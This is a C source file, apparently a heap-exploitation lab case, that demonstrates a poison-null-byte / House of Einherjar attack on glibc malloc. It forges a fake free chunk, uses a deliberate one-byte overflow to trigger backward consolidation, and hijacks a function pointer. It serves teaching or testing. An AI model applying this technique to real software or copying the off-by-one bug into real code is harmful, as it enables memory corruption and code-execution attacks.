/* Off-by-one NUL byte ("poison null byte" / House of Einherjar): a record's text buffer is
 * filled to its exact size and the terminating NUL lands one byte past it, on the low byte
 * of the next chunk's size field. Freeing that chunk then merges it backwards into a fake
 * free chunk the attacker wrote inside the record, and the merged chunk is handed out again
 * overlapping the record: the attacker, who can still edit the record, rewrites an object
 * that lives inside it. */
#include "lab.h"

struct handler {
    void (*run)(void);
    char pad[0x20];
};

static void run_normally(void) { puts("handler ran normally"); }
static void win(void) { pwned("a NUL byte overflow made a new object overlap attacker-edited text"); }

int main(void) {
    lab_init();
    void *fill[7];
    for (int i = 0; i < 7; i++) fill[i] = malloc(0xf8);
    char *rec = alloc_typed(0x38, DATA_TYPE(3));  /* chunk 0x40 */
    char *next = alloc_typed(0xf8, DATA_TYPE(4)); /* chunk 0x100, right after rec */
    void *guard = malloc(0x18);                   /* keeps `next` away from the top chunk */
    for (int i = 0; i < 7; i++) free(fill[i]);    /* the 0x100 tcache bin is now full */

    /* The record's text, as the attacker chooses it: a fake free chunk of size 0x30 at the
     * start of the text whose list pointers point at itself (passing glibc's unlink check),
     * and 0x30 as the "previous size" that glibc reads from the last 8 bytes. */
    uint64_t text[7] = {0};
    uintptr_t fake = (uintptr_t)rec;
    text[1] = 0x30 | 1;
    text[2] = fake;
    text[3] = fake;
    text[6] = 0x30;
    memcpy(rec, text, 0x38);
    rec[0x38] = '\0'; /* the bug: terminator written at index == size */

    free(next); /* merges backwards with the fake chunk */
    struct handler *h = alloc_typed(sizeof *h, PTR_TYPE(5));
    h->run = run_normally;
    /* The attacker edits the record again (in bounds); on glibc h lies inside it. */
    void (*target)(void) = win;
    memcpy(rec + 0x10, &target, 8);
    h->run();
    free(h);
    free(rec);
    free(guard);
    noeffect("the handler was not inside the record");
    return 0;
}
